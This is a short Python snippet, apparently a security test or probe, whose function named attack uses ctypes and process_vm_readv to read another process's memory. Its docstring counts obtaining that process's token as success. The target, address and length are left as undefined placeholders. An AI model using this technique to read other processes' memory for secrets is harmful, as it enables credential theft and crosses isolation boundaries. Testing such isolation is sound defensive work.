"""Read another process's memory by process_vm_readv. Success: its token."""

import ctypes


class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def attack():
    room = ctypes.create_string_buffer(LENGTH)
    here = Part(ctypes.addressof(room), LENGTH)
    there = Part(ADDRESS, LENGTH)
    ctypes.CDLL(None).process_vm_readv(
        VICTIM, ctypes.byref(here), 1, ctypes.byref(there), 1, 0
    )
    return room.raw
